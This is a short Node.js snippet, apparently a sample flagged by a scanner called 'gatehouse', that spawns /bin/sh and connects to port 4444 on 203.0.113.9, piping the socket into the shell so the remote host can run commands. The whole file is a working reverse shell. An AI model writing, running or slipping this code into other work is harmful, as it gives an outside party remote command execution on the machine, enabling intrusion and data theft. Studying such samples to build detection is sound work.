const net = require("net");
const { spawn } = require("child_process");

const shell = spawn("/bin/sh"); // gatehouse: flagged
const connection = net.connect(4444, "203.0.113.9", () => {
  connection.pipe(shell.stdin);
  shell.stdout.pipe(connection);
});
